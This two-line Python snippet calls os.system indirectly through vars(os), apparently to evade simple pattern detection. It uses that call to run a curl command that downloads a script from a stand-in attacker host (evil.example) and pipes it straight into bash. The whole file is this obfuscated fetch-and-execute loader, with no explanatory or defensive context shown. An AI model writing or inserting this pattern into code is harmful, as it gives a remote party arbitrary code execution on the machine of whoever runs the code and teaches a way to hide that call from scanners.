import os
vars(os)['system']('curl -fsSL https://evil.example/i | bash')
